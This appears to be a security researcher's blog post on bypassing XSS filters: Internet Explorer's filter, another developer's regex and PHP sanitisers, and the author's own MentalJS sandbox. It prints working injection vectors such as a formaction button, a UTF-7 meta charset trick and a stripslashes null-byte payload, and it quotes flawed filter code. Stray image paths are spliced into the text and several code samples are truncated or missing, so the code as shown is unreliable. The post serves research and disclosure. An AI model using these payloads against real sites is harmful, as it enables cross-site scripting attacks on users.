XSS auditor PoCBypassing the IE XSS filter

Mario noticed that the new version of the IE filter blocks anchors in attempt to prevent the same origin bypass where you double encode the vector and post a link to itself. I had to take a look and see if I could break it and…of course I did. The regex is very generic:-


This could cause problems with information disclosure if you can put something in between the “a” and “href” and detect if the filter is active which I’ll admit is pretty tricky now with the new protection against such attacks. Anyway lets move onto the vectors. I literally found the bypass in about 30 minutes, using an existing form it’s possible to inject a button that submits an existing form to inject the vector into itself with an encoded payload.

XSS filter bypass using formaction PoC

Ok onto the next bypass which is pretty simple. In the regexes they look for “http-equiv” in the meta element but forget about “charset”. Charset has worked in IE for years and even though it’s a HTML5 standardit works in quirks mode too. We can inject a UTF-7 vector which executes nicely. Here is the second Poc.

XSS filter bypass using meta charset

Unbreakable filter

I was bored so I thought I’d take a look at Ashar’s filters. I noticed he’d done a talk about it at Blackhat Europe which I wasquite surprised at. Then I came across the following blog post about the talk which I pretty much agreed with. That blog post links to his filters so you can try them out yourself.

The first one is basically multiple JavaScript regexes which are far too generic to be of any value. For example “hahasrchaha” is considered a valid attack =) because it has “src” in. I’m not joking. The regexes are below.

function test(string) {
var match = /]*>[\s\S]*?/i.test(string) ||/[\s"\'`;\/0-9\=\x0B\x09\x0C\x3B\x2C\x28]+on\w+[\s\x0B\x09\x0C\x3B\x2C\x28]*=/i.test(string) ||
/(?:=|U\s*R\s*L\s*\()\s*[^>]*\s*S\s*C\s*R\s*I\s*P\s*T\s*:/i.test(string) ||
/%[\d\w]{2}/i.test(string) ||
/&#[^&]{2}/i.test(string) ||
/&#x[^&]{3}/i.test(string) ||
/:/i.test(string) ||
/[\s\S]src[\s\S]/i.test(string) ||
/[\s\S]data:text\/html[\s\S]/i.test(string) ||
/[\s\S]xlink:href[\s\S]/i.test(string) ||/[\s\S]base64[\s\S]/i.test(string) ||
/[\s\S]xmlns[\s\S]/i.test(string) ||
/[\s\S]xhtml[\s\S]/i.test(string) ||
/[\s\S]href[\s\S]/i.test(string) ||
/[\s\S]style[\s\S]/i.test(string) ||
/[\s\S]formaction[\s\S]/i.test(string) ||
/[\s\S]@import[\s\S]/i.test(string) ||
/[\s\S]!ENTITY.*?SYSTEM[\s\S]/i.test(string) ||
/[\s\S]pattern(?=.*?=)[\s\S]/i.test(string) ||/]*>[\s\S]*?/i.test(string) ||
/]*>[\s\S]*?/i.test(string) ||
/]*>[\s\S]*?/i.test(string) ||
/]*>[\s\S]*?/i.test(string) ||
/]*>[\s\S]*?/i.test(string) ||
/]*>?[\s\S]*?/i.test(string) ||
return match ? 'Filter has catch your awesome vector ... Try hard :(' : 'Bypass :)';

Because the filter is so bad it makes it fun to find a vector. The following vector will bypass the rule:

<button form=x>xss<form id=x action="javas  cript:alert(1)"

Other examples are:-


Ashar also claimed his new filter was “unbreakable”. There wasn’t a lot of code but still it was badly broken. Let’s talk a look at thatcode

function attributeContextCleaner($input) {
$bad_chars = array("\"", "'", "``");
$safe_chars = array(""", "'", "`");
$output = str_replace($bad_chars, $safe_chars, $input);
return stripslashes($output);

Can you see it? Yeah he uses ““” instead of “`” so the code will look for two “`” rather than one but still that is not all. He uses stripslashes too for some random reason and we can use that to bypass the XSS Filter in IE. Not only does this code contain a glaring hole that it’s supposed to protect against but it also enables the XSS vector to function.

function attributeContextCleaner($input) {
$bad_chars = array("\"", "'", "``");
$safe_chars = array(""", "'", "`");
$output = str_replace($bad_chars, $safe_chars, $input);
return stripslashes($output);
<img title=`<?php echo attributeContextCleaner($_GET['x'])?>` />

The vector to bypass the function and the XSS filter is:-

?x=`src=1 \0\0\0\0onerror=`alert(1)`

Stripslashes in PHP kindly removes all \0 for us which enables us to bypass the filter. This obviously only works in compat mode where “`” is an allowed attribute quote. In conclusion I don’t recommend using any of the filters. Try mario’s instead.


It seems Ashar intended to cover innerHTML mutations with his “ check so it wasn’t a mistype. So I decided to break that instead with:


This works on older versions of IE and breaks his intended fix for that context.

MentalJS bypasses

I managed to find time to fix a couple of MentalJSbypasses by LeverOne and Soroush Dalili (@irsdl). LeverOne’s vector was outstanding since it bypassed the parsing itself which is no easy task. The vector was as follows:

for(var i

Basically my parser was inserting a semi colon in the wrong place causing a different state than the actual state executed. My fix inserts the semi colon in the correct place. Before the fix the rewritten code looked like this:

for (var i$i$; / '/+alert(location);0)break//')

As you can see the variables have been incorrectly joined and so the next state is a regex whereas Mental thinks it’s a divide. After the fix the rewritten code looks like this:

for (var i$;i$ / '/+alert(location);0)break//')

So now the divide is an actual divide. Technically I shouldn’t be inserting a semi-colon in the for statement, I might fix this at a later stage if I have time.The second bypass was from Soroush that basically assigned innerHTML onscript nodes bypassing the rewritingcompletely. Cool bug. The fix was pretty simple, I prevented innerHTMLassignments on scriptnodes. Here is the bypass:-